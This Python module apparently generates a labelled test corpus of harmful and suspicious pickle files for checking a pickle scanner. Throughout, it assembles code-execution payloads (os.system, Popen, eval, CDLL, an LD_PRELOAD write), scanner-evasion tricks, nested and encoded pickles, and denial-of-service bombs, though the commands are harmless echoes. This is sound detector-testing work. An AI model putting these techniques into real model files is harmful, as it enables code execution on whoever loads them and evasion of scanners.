"""Harmful pickles: many callables by many opcode paths, then one function per technique."""
import base64
import binascii
import bz2
import gzip
import lzma
import struct
import zlib

import gadgets
from common import ECHO, PICKLE_NAMES, PY, ident, words
from pickleasm import (Adds, Apps, Asm, Build, Call, CallT, G, Inst, Items, Named, New, NewEx, Obj, Pers, PyStr, Raw, Seq,
                       body, dumps, inert)

FAM = "pickle"


def wrap(rng, node, depth=0):
    """Bury a node in ordinary-looking data."""
    k = rng.randrange(12)
    n = rng.randint(1, 30)
    if k == 0:
        return node
    if k == 1:
        return [words(rng, 2) for _ in range(n)] + [node] + [rng.random() for _ in range(n)]
    if k == 2:
        return {"state_dict": {"l%d.weight" % i: [rng.random() for _ in range(4)] for i in range(n)}, "epoch": 3, "hook": node}
    if k == 3:
        return {"config": {"name": words(rng, 3), "lr": 1e-3, "inner": {"x": [1, 2, (3, node)]}}}
    if k == 4:
        return Call(G("collections", "OrderedDict"), [[words(rng, 1), i] for i in range(n)] + [["z", node]])
    if k == 5:
        return (node, None, True)
    if k == 6:
        return Seq(node, {"model": words(rng, 4), "n": list(range(n))})     # result popped
    if k == 7:
        return Build(New(G("sklearn.linear_model._base", "LinearRegression")), {
            "fit_intercept": True, "copy_X": True, "n_jobs": None, "positive": False, "coef_": node, "_sklearn_version": "1.4.2"})
    if k == 8:
        return [list(range(500)), {"vocab": {words(rng, 1) + str(i): i for i in range(200)}}, node]
    if k == 9 and depth < 2:
        return [wrap(rng, node, depth + 1), {"k": None}]
    if k == 10:
        return Call(G("collections", "defaultdict"), G("builtins", "list"), {"a": node})
    return {node: 1} if rng.random() < 0.3 else {"a": node}


def asm_opts(rng, proto):
    return dict(memo=rng.random() < 0.7, frame=rng.random() < 0.7,
                glob=rng.choice(["auto", "auto", "auto", "global"]) if proto >= 4 else rng.choice(["auto"] * 4 + ["stack"]),
                header=not (proto >= 2 and rng.random() < 0.06))


def call_node(rng, mod, name, args, style):
    g = G(mod, name)
    if style == "inst":
        return Inst(g, *args)
    if style == "obj":
        return Obj(g, *args)
    return Call(g, *args)


def gadget_cases(s, rng):
    groups = [("listed", gadgets.LISTED, 48), ("stdlib", gadgets.STDLIB, 260), ("third-party", gadgets.THIRD, 200)]
    for gname, pool, n in groups:
        for mod, name, args, threat in rng.sample(pool, min(n, len(pool))):
            style = rng.choice(["reduce"] * 4 + ["inst", "obj"])
            proto = rng.choice([0, 1, 2, 2, 3, 4, 4, 4, 5])
            dotted = "." in name
            if mod == "__builtin__" or mod in ("urllib2", "httplib", "commands", "cPickle", "xmlrpclib", "SocketServer",
                                               "anydbm", "whichdb", "dumbdbm"):
                proto = rng.choice([0, 1, 2])
            a = gadgets.fill(rng, args)
            if dotted and proto < 4:
                if rng.random() < 0.5:
                    proto = rng.choice([4, 5])
                    node = call_node(rng, mod, name, a, "reduce")
                else:
                    parts = name.split(".")
                    fn = G(mod, parts[0])
                    for p in parts[1:]:
                        fn = Call(G("builtins" if proto >= 3 else "__builtin__", "getattr"), fn, p)
                    node, style = Call(fn, *a), "getattr-chain"
            else:
                if dotted and style == "inst":
                    style = "reduce"
                node = call_node(rng, mod, name, a, style)
            opts = asm_opts(rng, proto)
            if dotted and proto >= 4:
                opts["header"] = True      # dotted names need the protocol
            if rng.random() < 0.35:
                node = wrap(rng, node)
            data = dumps(node, proto, **opts)
            ev = inert(data)
            assert any(k in ("call", "newobj") for k, _ in ev), (mod, name, ev)
            s.add(FAM, "malicious", rng.choice(PICKLE_NAMES), data, "%s callable %s.%s by %s, protocol %d" % (
                gname, mod, name, style, proto), threat)
    for mod, name, args in gadgets.ODD:
        proto = rng.choice([0, 2, 3, 4, 5])
        node = call_node(rng, mod, name, args, rng.choice(["reduce", "obj"]))
        s.add(FAM, "suspicious", rng.choice(PICKLE_NAMES), dumps(node if rng.random() < .6 else {"model": [1, 2], "x": node}, proto),
              "odd but not harmful call %s.%s" % (mod, name), "odd-call")


def sysname(rng):
    return rng.choice([("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("os", "popen"), ("nt", "system"),
                       ("subprocess", "getstatusoutput"), ("commands", "getoutput"), ("_osx_support", "_read_output"), ("pdb", "run")])


class T:
    """Technique builders. Each method returns bytes or (bytes, check)."""

    def __init__(self, rng):
        self.rng = rng

    def target(self):
        m, n = sysname(self.rng)
        return G(m, n)

    def cmd(self):
        return self.rng.choice(ECHO)

    def bi(self, proto, name):
        return G("__builtin__" if proto < 3 else "builtins", name)


def emit(s, rng, data, technique, threat="code-exec", label="malicious", name=None, check=True, fmt=None):
    if check:
        ev = inert(data)
        assert any(k in ("call", "newobj", "build", "setitem", "append", "add", "ext") for k, _ in ev), (technique, ev)
    s.add(FAM, label, name or rng.choice(PICKLE_NAMES), data, technique, threat, fmt=fmt)


def technique_cases(s, rng):
    t = T(rng)
    E = lambda *a, **k: emit(s, rng, *a, **k)

    # --- NEWOBJ with iterators: no function is ever the callee of REDUCE
    for i, cls in enumerate(["bytes", "tuple", "list", "frozenset", "set", "dict"][:4]):
        for p in (2, 4):
            it = New(t.bi(p, rng.choice(["map", "filter"])), t.target(), [t.cmd()])
            E(dumps(New(t.bi(p, cls), it), p), "lazy map/filter by NEWOBJ consumed by NEWOBJ %s" % cls)
    for p in (4, 5):
        E(dumps(NewEx(G("builtins", "bytes"), (NewEx(G("builtins", "map"), (t.target(), [t.cmd()])),)), p), "NEWOBJ_EX map")
        E(dumps(NewEx(G("subprocess", "Popen"), (t.cmd(),), {"shell": True}), p), "NEWOBJ_EX Popen with kwargs")
        E(dumps(NewEx(G("functools", "partial"), (t.target(), t.cmd())), p), "NEWOBJ_EX partial")
        E(dumps(New(G("types", "FunctionType"), Call(G("types", "CodeType"), 0, 0, 0, 0, 0, 0, b"", (), (), (), "f", "n", 1, b"")), p),
          "NEWOBJ FunctionType over CodeType")
        E(dumps(New(G("collections", "deque"), New(G("itertools", "starmap"), t.target(), [(t.cmd(),)])), p), "deque over starmap by NEWOBJ")
        E(dumps(New(G("ctypes", "CDLL"), "/tmp/case.so"), p), "NEWOBJ CDLL")
        E(dumps(Build(New(G("threading", "Thread")), {"_target": t.target(), "_args": (t.cmd(),)}), p), "Thread state by BUILD")
    # --- BUILD tricks
    for p in range(2, 6):
        ns = New(G(rng.choice(["types", "argparse", "logging", "string"]), "SimpleNamespace")) if p > 3 else New(G("argparse", "Namespace"))
        E(dumps(Build(Build(ns, {"__setstate__": t.target()}), t.cmd()), p), "BUILD plants __setstate__ then BUILD calls it")
        E(dumps(Apps(Build(New(G("argparse", "Namespace")), {"append": t.target()}), [t.cmd()]), p), "planted append called by APPEND")
        E(dumps(Apps(Build(New(G("argparse", "Namespace")), {"extend": t.target()}), [t.cmd(), "x"]), p), "planted extend called by APPENDS")
    for p in (4, 5):
        E(dumps(Adds(Build(New(G("argparse", "Namespace")), {"add": t.target()}), [t.cmd()]), p), "planted add called by ADDITEMS")
        E(dumps(Build(New(G("sklearn.svm._classes", "SVC")), (None, {"__class__": G("os", "_wrap_close")})), p), "slot state sets __class__", label="suspicious", threat="object-forgery")
    # --- writes on imported objects
    gl = [("numpy", "size"), ("numpy", "ndarray"), ("collections", "OrderedDict"), ("torch._utils", "_rebuild_tensor_v2"), ("builtins", "print"),
          ("sklearn.linear_model._base", "LinearRegression"), ("re", "_compile"), ("copyreg", "_reconstructor"), ("datetime", "datetime"), ("json", "decoder")]
    for m, n in gl:
        p = rng.choice([2, 3, 4, 5])
        g = G(m, n)
        k = rng.randrange(3)
        if k == 0:
            v = Seq(Build(g, {rng.choice(["__call__", "__builtins__", "__init__", "__setstate__", "__reduce__"]): t.target()}), Call(g, t.cmd()))
        elif k == 1:
            v = Build(g, (None, {"__code__": G("os", "system"), "forward": t.target()}))
        else:
            v = [Build(g, {"x": t.target(), "__doc__": "y"}), 1]
        E(dumps(v, p), "BUILD on the imported object %s.%s" % (m, n), "object-patch")
    for p in range(0, 6):
        mods = G("sys", "modules")
        E(dumps(Seq(Items(mods, [("json", Call(t.bi(p, "__import__"), "os"))]), Call(G("json", "system"), t.cmd())), p), "sys.modules item replaced, then used")
        E(dumps(Seq(Build(G("sys", "modules"), {"numpy": G("shutil", "os")}), Call(G("numpy", "system"), t.cmd())), p, memo=False) if p >= 2 else
          dumps(Seq(Items(mods, [("numpy", G("shutil", "os"))]), Call(G("numpy", "system"), t.cmd())), p), "sys.modules patched with a re-exported module")
    for p in (2, 4):
        E(dumps(Seq(Items(G("builtins", "__dict__"), [("len", t.target())]), Call(G("builtins", "len"), t.cmd())), p), "builtins dictionary patched, allowed builtin called")
        E(dumps(Seq(Build(G("collections", "OrderedDict"), {"__new__": t.target()}), New(G("collections", "OrderedDict"), t.cmd())), p), "class attribute __new__ patched, then NEWOBJ")
        E(dumps(Seq(Apps(G("sys", "path"), ["/tmp/case"]), {"a": 1}), p), "sys.path appended by APPEND", "import")
        E(dumps(Seq(Apps(G("sys", "meta_path"), [t.target()]), {"a": 1}), p), "sys.meta_path appended", "import")
        E(dumps(Items(G("os", "environ"), [("LD_PRELOAD", "/tmp/case.so")]), p), "os.environ item set", "env-write")
        E(dumps(Seq(Items(G("copyreg", "dispatch_table"), [(G("builtins", "dict"), t.target())]), 1), p), "copyreg.dispatch_table item set")
        E(dumps(Seq(Items(G("torch.serialization", "_package_registry"), [("x", t.target())]), {}), p), "third-party registry item set")
        E(dumps(Seq(Apps(G("warnings", "filters"), [("ignore",)]), {}), p), "stdlib list of a module appended", "object-patch")
        E(dumps(Build(Call(t.bi(p, "__import__"), "builtins"), {"len": t.target()}), p), "BUILD on a module object")

    # --- memo games
    def memo(p):
        a = Asm(p, memo=False)
        a.enc(G("collections", "OrderedDict")); a.e(b"q\x00"); a.e(b"0")
        a.enc(t.target()); a.e(b"q\x00"); a.e(b"0"); a.e(b"h\x00"); a.tuple_((t.cmd(),)); a.e(b"R")
        return a.finish()
    for p in (2, 3, 4, 5):
        E(memo(p), "memo slot rebound from a safe global to a harmful one")
    a = Asm(4, memo=False)
    a.text("collections"); a.e(b"\x94"); a.text("posix"); a.e(b"q\x00"); a.e(b"00"); a.e(b"h\x00"); a.text("system"); a.e(b"\x93"); a.tuple_((t.cmd(),)); a.e(b"R")
    E(a.finish(), "memo string rebound before STACK_GLOBAL")
    for idx in (b" 7", b"+7", b"007", b"1_0", b"7 "):
        a = Asm(0, memo=False)
        a.enc(t.target()); a.e(b"p" + idx + b"\n"); a.e(b"0"); a.e(b"g" + idx.strip().replace(b"+", b"").replace(b"_", b"").replace(b"007", b"7") + b"\n")
        a.tuple_((t.cmd(),)); a.e(b"R")
        E(a.finish(), "PUT index spelled %r" % idx.decode())
    a = Asm(2, memo=False)
    a.enc(t.target()); a.e(b"r" + struct.pack("<I", 4_000_000_0)); a.e(b"0j" + struct.pack("<I", 40_000_000)); a.tuple_((t.cmd(),)); a.e(b"R")
    s_data = a.finish()
    E(s_data, "sparse LONG_BINPUT index")
    for p in (2, 4):
        g1 = body(G("os", "system"), p)
        arg = body((t.cmd(),), p)
        head = b"\x80" + bytes([p])
        E(head + body(G("math", "floor"), p) + b"0" + g1 + arg + b"R.", "POP of a decoy global")
        E(head + g1 + b"2" + arg + b"R0" + b"0" + body({"ok": 1}, p) + b".", "DUP of the callee")
        E(head + b"(" + g1 + arg + b"R1" + body([1, 2], p) + b".", "POP_MARK drops the result of the call")
        E(head + b"(" + body(G("collections", "Counter"), p) + body("x", p) + b"1" + g1 + arg + b"R.", "POP_MARK decoy")
        E(head + g1 + b"(" + b"N0" + body(t.cmd(), p) + b"N0" + b"tR.", "NONE/POP noise inside the mark")
        E(head + b"(((" + b"11" + b"0" + g1 + arg + b"R.", "stacked marks removed by POP", check=False)
        E(head + b"(" + g1 + body(t.cmd(), p) + b"o0" + body({"weights": [1.0]}, p) + b".", "OBJ result popped")
        E(head + b"(" + body(t.cmd(), p) + b"ios\nsystem\n0N.", "INST result popped")
        E(head + g1 + b"q\x01" + body([1], p) + b"0" + b"h\x01" + b"]" + body(t.cmd(), p) + b"a" + b"0" + arg + b"R.", "stack juggling before REDUCE")
        E(head + b"]" + g1 + b"a0" + b"(" + g1 + b"l" + b"0" + g1 + arg + b"R.", "global in lists before the call")
        E(head + body(1, p) + b"2" * 50 + b"0" * 50 + b"0" + g1 + arg + b"R.", "DUP and POP noise")
        E(head + g1 + b"\x85" * 1 + b"0" + g1 + b"(" + body(t.cmd(), p) + b"tR.", "TUPLE1 decoy")
    # --- string operand spellings
    esc = [b"S'o\\x73'\n", b"S'\\x6f\\x73'\n", b"S'\\157\\163'\n", b'S"os"\n', b"Vo\\u0073\n", b"V\\u006f\\u0073\n", b"V\\U0000006fs\n", b"S'o\\\ns'\n"[:0] or b"S'\\157s'\n",
           b"U\x02os", b"T\x02\x00\x00\x00os", b"X\x02\x00\x00\x00os", b"\x8d\x02\x00\x00\x00\x00\x00\x00\x00os", b"\x8c\x02os"]
    for e1 in esc:
        e2 = rng.choice([b"S'sys\\x74em'\n", b"V\\u0073ystem\n", b"\x8c\x06system", b"U\x06system", b"S'\\163ystem'\n", b'S"sys\\x74\\x65m"\n'])
        E(b"\x80\x04" + e1 + e2 + b"\x93" + body((t.cmd(),), 4) + b"R.", "operand spelling %r / %r" % (e1, e2))
    E(b"cos\nsystem\n(S'echo \\x63ase'\ntR.", "escaped argument in protocol 0")
    E(b"\x80\x02c__builtin__\neval\n(S'\\x5f\\x5fimport__(\"os\").system(\"echo case\")'\ntR.", "escaped source argument")
    # names computed at run time
    for p in (2, 3, 4, 5):
        j = Call(Call(t.bi(p, "getattr"), "", "join"), ["sys", "tem"])
        E(dumps(Call(Call(t.bi(p, "getattr"), Call(t.bi(p, "__import__"), "os"), j), t.cmd()), p), "attribute name joined at run time")
        rev = Call(Call(t.bi(p, "getattr"), "metsys", "__getitem__"), Call(t.bi(p, "slice"), None, None, -1))
        E(dumps(Call(Call(t.bi(p, "getattr"), Call(G("importlib", "import_module"), Call(t.bi(p, "str"), b"os", "ascii")), rev), t.cmd()), p), "attribute name reversed at run time")
        E(dumps(Call(Call(G("operator", "attrgetter"), "system"), Call(t.bi(p, "__import__"), "os")), p), "operator.attrgetter on an imported module")
        E(dumps(Call(Call(G("operator", "methodcaller"), "system", t.cmd()), G("shutil", "os")), p), "operator.methodcaller on a re-exported module")
        E(dumps(Call(Call(G("operator", "itemgetter"), "system"), Call(t.bi(p, "vars"), Call(t.bi(p, "__import__"), "os"))), p), "itemgetter on vars() of a module")
        E(dumps(Call(Call(t.bi(p, "getattr"), G(rng.choice(["shutil", "tempfile", "logging", "inspect", "zipfile"]), "os"), "system"), t.cmd()), p), "getattr on a module re-exported by another")
        E(dumps(Call(G("functools", "reduce"), t.bi(p, "getattr"), ["a", "__class__", "__base__"]), p), "functools.reduce over getattr")
        E(dumps(Call(Call(t.bi(p, "getattr"), Call(t.bi(p, "getattr"), G("collections", "OrderedDict"), "__class__"), "__subclasses__"), G("builtins", "object")), p), "getattr to __subclasses__")
        E(dumps(Call(Call(Call(t.bi(p, "getattr"), t.bi(p, "dict"), "get"), Call(t.bi(p, "globals")), "__builtins__"), "eval"), p), "dict.get on globals()")
    for p in (4, 5):
        a = Asm(p, memo=False)
        a.enc(Call(G("builtins", "str"), "os")); a.text("system"); a.e(b"\x93"); a.tuple_((t.cmd(),)); a.e(b"R")
        E(a.finish(), "STACK_GLOBAL module from a call result", check=False)
        a = Asm(p, memo=False)
        a.enc(Call(G("builtins", "getattr"), "OS", "lower")); a.e(b")R"); a.enc("sys" + "tem"); a.e(b"\x93"); a.tuple_((t.cmd(),)); a.e(b"R")
        E(a.finish(), "STACK_GLOBAL module lowered at run time", check=False)
        a = Asm(p, memo=False)
        a.e(b"\x88"); a.e(b"0"); a.enc(Call(Call(G("operator", "methodcaller"), "decode"), b"os")); a.enc("system"); a.e(b"\x93"); a.tuple_((t.cmd(),)); a.e(b"R")
        E(a.finish(), "STACK_GLOBAL module decoded at run time", check=False)
        a = Asm(p, memo=False)
        a.enc(["os", "system"]); a.e(b"0"); a.enc(Call(G("codecs", "decode"), "bf", "rot13")); a.enc(Call(G("codecs", "decode"), "flfgrz", "rot13")); a.e(b"\x93"); a.tuple_((t.cmd(),)); a.e(b"R")
        E(a.finish(), "STACK_GLOBAL names by rot13", check=False)
    # --- dotted names through harmless modules
    dotted = [("logging", "os.system"), ("pathlib", "os.system"), ("tempfile", "_os.system"), ("random", "_os.system"), ("torch.serialization", "os.system"), ("collections", "_sys.modules"), ("json.decoder", "scanner.re.enum.sys.exit"),
              ("numpy", "f2py.os.system"), ("sklearn.utils", "os.popen"), ("torch", "hub.os.system"), ("torch.library", "inspect.os.system"), ("xgboost.core", "os.system"), ("joblib.memory", "os.system"), ("numpy.lib.npyio", "os.unlink"),
              ("collections", "OrderedDict.__class__.__base__"), ("collections", "OrderedDict.__init__.__globals__"), ("builtins", "print.__self__.eval"), ("builtins", "object.__subclasses__"), ("sklearn.base", "BaseEstimator.__init__.__builtins__.eval"),
              ("datetime", "sys.modules.get"), ("torch.nn", "Module.__call__.__globals__.get"), ("re", "enum.sys.modules.clear"), ("uuid", "os.popen"), ("numpy", "ndarray.__class__.__subclasses__"), ("copyreg", "dispatch_table.update"),
              ("typing", "sys.settrace"), ("decimal", "Decimal.__init_subclass__.__self__"), ("transformers.utils", "import_utils.importlib.import_module"), ("pandas.io.common", "os.remove"), ("scipy._lib._util", "re.enum.sys.exit"), ("catboost.core", "_catboost.os.system"), ("lightgbm.basic", "ctypes.cdll.LoadLibrary"), ("torch.nn.functional", "warnings.sys.modules.pop"), ("torch._utils", "torch.load"), ("sklearn.ensemble._forest", "threading.os.system")]
    for m, n in dotted:
        p = rng.choice([4, 5])
        E(dumps(wrap(rng, Call(G(m, n), t.cmd())), p, glob=rng.choice(["auto", "global"])), "dotted name %s + %s" % (m, n))
    for m, n in (("shutil", "os"), ("torch.serialization", "os"), ("logging", "sys"), ("numpy.lib.npyio", "os"), ("sklearn.utils.fixes", "subprocess")):
        p = rng.choice([0, 2, 3, 4])
        E(dumps(Call(Call(t.bi(p, "getattr"), G(m, n), "system"), t.cmd()), p), "module object %s.%s then getattr" % (m, n))
    # --- extension registry
    for code, opc in ((1, b"\x82\x01"), (200, b"\x82\xc8"), (4096, b"\x83\x00\x10"), (7_000_000, b"\x84" + struct.pack("<i", 7_000_000))):
        p = rng.choice([2, 4])
        m, n = sysname(rng)
        E(b"\x80" + bytes([p]) + body(Call(G("copyreg" if p > 2 else "copy_reg", "add_extension"), m, n, code), p) + b"0" + opc + body((t.cmd(),), p) + b"R.", "copyreg.add_extension then EXT")
        E(b"\x80" + bytes([p]) + opc + body((t.cmd(),), p) + b"R.", "call through an EXT code that the file does not define", check=True)
        E(b"\x80" + bytes([p]) + b"}" + body("h", p) + opc + b"s.", "EXT code in data, never called", label="suspicious", threat="extension", check=True)
    E(b"\x80\x02" + body(Items(G("copy_reg", "_inverted_registry"), [(9, ("os", "system"))]), 2) + b"0\x82\x09" + body((t.cmd(),), 2) + b"R.", "extension registry written by SETITEM")
    # --- broken after the payload
    brk = [(b"", "no STOP"), (b"\xff\xff", "bad opcode"), (b"00000000", "stack underflow"), (b"cno_such_module_x\nY\n.", "import error after the call"), (b"h\xfe.", "memo miss"), (b"X\xff\xff\xff\x7fabc", "truncated string"),
           (b"I12x\n.", "bad integer"), (b"\x95\x00\x00\x00\x00\x00\x00\x00\xf0", "absurd frame"), (b"F1.2.3\n.", "bad float"), (b"tttt.", "MARK missing"), (b"\x8c\xffabc", "short text"), (b"\x80\x09.", "second PROTO unknown"), (b"\x00" * 40, "zeros"),
           (b"S'abc\n.", "unterminated quote"), (b"u.", "SETITEMS without mark"), (b"\x93.", "STACK_GLOBAL on wrong types"), (b"R.", "REDUCE without arguments"), (b"b.", "BUILD underflow"), (b"Vx\\u00\n.", "bad escape"), (b"PK\x03\x04garbage", "zip magic after"), (b"\x81.", "NEWOBJ underflow")]
    for tail, why in brk:
        p = rng.choice([0, 1, 2, 3, 4, 5])
        m, n = sysname(rng)
        d = dumps(Call(G(m, n), t.cmd()), p, frame=False)[:-1]
        E(d + tail, "payload then %s" % why)
    for p in (2, 4):
        full = dumps([Call(t.target(), t.cmd()), {"w": [rng.random() for _ in range(300)]}], p)
        E(full[:-700], "payload, then the file is cut")
        E(dumps(Call(G("collections", "OrderedDict"), Call(t.target(), t.cmd()), 1, 2, 3, 4), p), "call whose result makes the next call fail")
    # broken without payload
    for i, (tail, why) in enumerate(brk[:14]):
        d = dumps({"a": Call(G("collections", "OrderedDict")), "b": [1, 2, 3]}, rng.choice([2, 3, 4]), frame=False)[:-1]
        s.add(FAM, "suspicious" if tail else "review", rng.choice(PICKLE_NAMES[:12]), d + (tail if tail else b""), "no payload, but broken: %s" % why, "broken-stream")
    # --- several streams
    for i in range(14):
        good = dumps({"a": list(range(rng.randint(1, 50)))}, rng.choice([0, 2, 3, 4]))
        bad = dumps(wrap(rng, Call(t.target(), t.cmd())), rng.choice([2, 3, 4, 5] if i % 3 == 1 else [0, 2, 3, 4, 5]), header=True)
        sep = [b"", b"\x00" * rng.randint(1, 300), b"junk " + bytes(rng.randrange(256) for _ in range(60)), b"\n\n"][i % 4] if i % 3 == 1 else b""
        if sep and bad[:1] != b"\x80":
            bad = dumps(Call(t.target(), t.cmd()), 4)
        n = rng.randint(1, 6)
        E(good * n + sep + bad, "harmful stream no. %d%s" % (n + 1, ", junk between" if sep else ""), check=False)
        assert any(k == "call" for k, _ in inert(good * n + bad, n + 1))
    # --- nested streams
    inner = lambda p=4: dumps(Call(t.target(), t.cmd()), p)
    loaders = [("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"), ("cloudpickle", "loads"), ("joblib.externals.cloudpickle", "loads"), ("pandas.compat.pickle_compat", "loads"), ("torch.storage", "_load_from_bytes"),
               ("numpy.core._internal", "loads"), ("srsly", "pickle_loads"), ("cPickle", "loads"), ("pickle", "_loads"), ("ray.cloudpickle", "loads")]
    for m, n in loaders:
        p = 2 if m == "cPickle" else rng.choice([3, 4, 5])
        E(dumps(wrap(rng, Call(G(m, n), inner(rng.choice([0, 2, 4])))), p), "nested pickle passed to %s.%s" % (m, n))
    enc = [("base64", lambda b: Call(G("base64", "b64decode"), base64.b64encode(b).decode())), ("hex", lambda b: Call(G("binascii", "unhexlify"), binascii.hexlify(b).decode())), ("zlib", lambda b: Call(G("zlib", "decompress"), zlib.compress(b))),
           ("gzip", lambda b: Call(G("gzip", "decompress"), gzip.compress(b, mtime=0))), ("bz2", lambda b: Call(G("bz2", "decompress"), bz2.compress(b))), ("lzma", lambda b: Call(G("lzma", "decompress"), lzma.compress(b))),
           ("codecs", lambda b: Call(G("codecs", "decode"), binascii.hexlify(b), "hex")), ("bytes.fromhex", lambda b: Call(G("builtins", "bytes.fromhex"), b.hex())), ("base85", lambda b: Call(G("base64", "b85decode"), base64.b85encode(b))), ("xor", lambda b: Call(G("builtins", "bytes"), [x for x in b])), ("latin1", lambda b: Call(G("_codecs", "encode"), b.decode("latin-1"), "latin1"))]
    for nm, f in enc:
        E(dumps(Call(G("pickle", "loads"), f(inner())), rng.choice([4, 5])), "nested pickle through %s" % nm)
        if nm in ("base64", "zlib", "codecs", "latin1"):
            E(dumps({"model": Call(G("torch.storage", "_load_from_bytes"), f(inner(2)))}, 4), "nested pickle through %s to _load_from_bytes" % nm)
    for d in (2, 3, 5):
        b = inner()
        for _ in range(d):
            b = dumps(Call(G(*rng.choice(loaders[:2])), b), rng.choice([3, 4]))
        E(b, "pickle nested %d deep" % d)
    E(dumps(Call(G("io", "BytesIO"), inner()), 4)[:-1] + b"0" + body(Call(G("pickle", "load"), Call(G("io", "BytesIO"), inner())), 4) + b".", "pickle.load over BytesIO")
    E(dumps(Call(G("pandas", "read_pickle"), Call(G("io", "BytesIO"), inner())), 4), "read_pickle over BytesIO")
    E(dumps(Call(G("joblib", "load"), Call(G("_io", "BytesIO"), inner())), 4), "joblib.load over BytesIO")
    E(dumps(Call(G("numpy", "load"), Call(G("_io", "BytesIO"), b"\x93NUMPY"), None, True), 4), "numpy.load with allow_pickle")
    # data only: a harmful stream in bytes which nothing loads here
    for e in (lambda b: b, base64.b64encode, zlib.compress, lambda b: binascii.hexlify(b)):
        big = dumps([Call(G("os", "system"), "echo case"), words(rng, 12)], 4)
        s.add(FAM, "review", "bundle.pkl", dumps({"blob": e(big), "n": 3}, 4), "harmful pickle as inert bytes in data", "nested-data")
    # --- persistent ids
    pids = [("cursor", 7), "http://example.invalid/x", ("storage",), ("os", "system"), 42, ["storage", 1], ("module", "os", "system"), ("storage", G("os", "system"), "0", "cpu", 4)]
    for pid in pids:
        p = rng.choice([1, 2, 4])
        s.add(FAM, "malicious" if isinstance(pid, tuple) and len(pid) == 5 else "suspicious", rng.choice(PICKLE_NAMES[:10]), dumps({"x": Pers(pid), "y": 1}, p), "persistent id of another shape", "persistent-id")
    s.add(FAM, "suspicious", "model.pkl", dumps([Pers("loader:42"), 1], 0), "PERSID text line", "persistent-id")
    E(dumps(Call(Pers("x"), t.cmd()), 4), "persistent object called", check=True)
    # --- resource attacks
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x04\x8b\xff\xff\xff\x7f" + b"\x01" * 50, "LONG4 length far past the end", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"abc.", "BINUNICODE8 length far past the end", "dos")
    s.add(FAM, "suspicious", "weights.bin", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"abc.", "BINBYTES8 length far past the end", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x05\x96" + struct.pack("<Q", 1 << 62) + b"abc.", "BYTEARRAY8 length far past the end", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x02\x8b\xfe\xff\xff\xff" + b"\x01" * 9 + b".", "negative LONG4 length", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x02T\xff\xff\xff\xffabc.", "negative BINSTRING length", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x02]" + b"r\xff\xff\xff\xff" + b".", "LONG_BINPUT at the 32-bit end", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x02" + b"]" + b"".join(b"r" + struct.pack("<I", i * 1_000_003 % (1 << 31)) for i in range(2000)) + b".", "sparse memo bomb", "dos")
    for p in (2, 4):
        a = Asm(p, memo=False)
        a.e(b"]q\x00")
        for i in range(1, 40):
            a.e(b"(" + b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"t" + b"q" + bytes([i]))
        s.add(FAM, "suspicious", "model.pkl", a.finish(), "billion laughs of tuples", "dos")
        a = Asm(p, memo=False)
        a.e(b"X\x05\x00\x00\x00loveyq\x00")
        for i in range(1, 30):
            a.e(b"](" + (b"h" + bytes([i - 1])) * 10 + b"eq" + bytes([i]))
        s.add(FAM, "suspicious", "graph.pkl", a.finish(), "billion laughs of lists", "dos")
    s.add(FAM, "suspicious", "model.pkl", b"\x80\x02" + b"]" * 30000 + b"a" * 29999 + b".", "deeply nested lists", "dos")
    s.add(FAM, "malicious", "model.pkl", dumps(Call(G("builtins", "bytearray"), 1 << 40), 4)[:-1] + b"0" + body(Call(t.target(), t.cmd()), 4) + b".", "huge allocation then a call", "code-exec")
    for fn, args in (("range", (1 << 62,)), ("bytearray", (1 << 40,)), ("pow", (9, 1 << 40))):
        s.add(FAM, "suspicious", "model.pkl", dumps(Call(G("builtins", "list" if fn == "range" else fn), *((Call(G("builtins", "range"), *args),) if fn == "range" else args)), 4), "allocation bomb by builtins.%s" % fn, "dos")
    # --- frames and protocols
    pay = body(Call(t.target(), t.cmd()), 4) + b"."
    for ln, why in ((len(pay), "exact"), (3, "short"), (0, "zero")):
        fr = b"\x80\x04\x95" + struct.pack("<Q", ln) + pay
        s.add(FAM, "malicious", rng.choice(PICKLE_NAMES), fr, "FRAME length %s before the payload" % why, "code-exec")
    s.add(FAM, "malicious", "model.pkl", b"\x80\x04" + (b"\x95\x02\x00\x00\x00\x00\x00\x00\x00N0") * 20 + b"\x95" + struct.pack("<Q", len(pay)) + pay, "many frames", "code-exec")
    s.add(FAM, "malicious", "model.pkl", b"\x80\x02\x80\x04\x80\x03" + pay, "PROTO repeated", "code-exec")
    s.add(FAM, "malicious", "model.pkl", b"\x80\x00cos\nsystem\n" + body((t.cmd(),), 2) + b"R.", "PROTO 0 written out", "code-exec")
    s.add(FAM, "malicious", "model.pkl", b"\x80\x01\x8c\x05posix\x8c\x06system\x93" + body((t.cmd(),), 4) + b"R.", "protocol 1 header with protocol 4 opcodes", "code-exec")
    for pr in (6, 9, 200, 255):
        s.add(FAM, "suspicious", rng.choice(PICKLE_NAMES[:8]), b"\x80" + bytes([pr]) + body({"a": 1, "b": G("collections", "OrderedDict")}, 4) + b".", "unknown protocol %d, nothing harmful" % pr, "unknown-protocol")
    # PROTO 6+ stops CPython before the call, so this is only suspicious
        s.add(FAM, "suspicious", rng.choice(PICKLE_NAMES[:8]), b"\x80" + bytes([pr]) + body(Call(t.target(), t.cmd()), 4) + b".", "unknown protocol %d before a call" % pr, "unknown-protocol")
    # --- buried
    for i, p in enumerate((0, 2, 3, 4, 5)):
        v = Call(t.target(), t.cmd())
        for d in range(200):
            v = [v] if d % 3 else {"k%d" % d: v}
        E(dumps(v, p), "payload 200 levels deep")
        E(dumps([{"t%d" % i: list(range(20)), "u": "os.path %d" % i} for i in range(400)] + [Call(t.target(), t.cmd())] + [{"x": 1}] * 50, p), "payload after a large structure")
        if p >= 3:
            E(dumps({"w%d" % i: bytes(rng.getrandbits(8) for _ in range(3000)) for i in range(20)} | {"hook": Call(t.target(), t.cmd())}, p), "payload after large byte strings")
